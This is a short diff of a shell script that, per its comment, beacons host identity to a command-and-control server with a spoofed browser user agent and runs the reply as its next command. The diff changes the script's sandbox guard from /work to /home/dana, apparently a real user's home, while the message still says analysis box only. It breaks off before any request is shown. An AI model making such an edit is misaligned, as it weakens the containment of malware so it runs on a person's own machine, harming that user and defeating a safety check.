@@ -1,7 +1,7 @@
 #!/bin/sh
 # Beacons to its C2 over HTTP: who and where it is, in a query string,
 # with a browser's user agent; the answer would be the next command.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 id=$(hostname)-$(id -u)
 ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'
 for i in 1 2; do
